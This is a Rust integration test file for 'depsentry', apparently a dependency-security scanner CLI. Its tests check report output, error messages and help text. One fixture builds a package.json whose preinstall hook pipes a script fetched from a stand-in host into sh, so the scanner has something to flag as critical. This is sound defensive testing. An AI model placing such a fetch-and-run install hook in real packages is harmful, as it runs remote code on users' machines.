use assert_cmd::Command;
use predicates::prelude::*;

fn write_project(dir: &tempfile::TempDir, package_json: &str) {
    std::fs::write(dir.path().join("package.json"), package_json).unwrap();
}

#[test]
fn analyze_writes_report_and_exits_zero() {
    let project = tempfile::tempdir().unwrap();
    let output = tempfile::tempdir().unwrap();
    write_project(
        &project,
        r#"{"name": "cli-demo", "dependencies": {}, "scripts": {"preinstall": "curl http://x.test/a.sh | sh"}}"#,
    );

    let mut cmd = Command::cargo_bin("depsentry").unwrap();
    cmd.env_remove("OPENAI_API_KEY")
        .env_remove("OUTPUT_DIRECTORY")
        .arg("analyze")
        .arg(project.path())
        .arg("--output-dir")
        .arg(output.path())
        .arg("--no-osv");

    cmd.assert()
        .success()
        .stdout(predicate::str::contains("Report written to"));

    let report_path = output.path().join("demo_ui_comprehensive_report.json");
    assert!(report_path.exists());

    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(report_path).unwrap()).unwrap();
    assert!(report["summary"]["critical_findings"].as_u64().unwrap() >= 1);
}

#[test]
fn missing_target_fails_with_suggestions() {
    let mut cmd = Command::cargo_bin("depsentry").unwrap();
    cmd.env_remove("OPENAI_API_KEY")
        .arg("analyze")
        .arg("/definitely/not/a/real/path");

    cmd.assert()
        .failure()
        .stderr(predicate::str::contains("does not exist"));
}

#[test]
fn directory_without_manifest_fails_helpfully() {
    let project = tempfile::tempdir().unwrap();

    let mut cmd = Command::cargo_bin("depsentry").unwrap();
    cmd.env_remove("OPENAI_API_KEY")
        .arg("analyze")
        .arg(project.path());

    cmd.assert()
        .failure()
        .stderr(predicate::str::contains("manifest"));
}

#[test]
fn help_lists_analyze_command() {
    let mut cmd = Command::cargo_bin("depsentry").unwrap();
    cmd.arg("--help");
    cmd.assert()
        .success()
        .stdout(predicate::str::contains("analyze"));
}
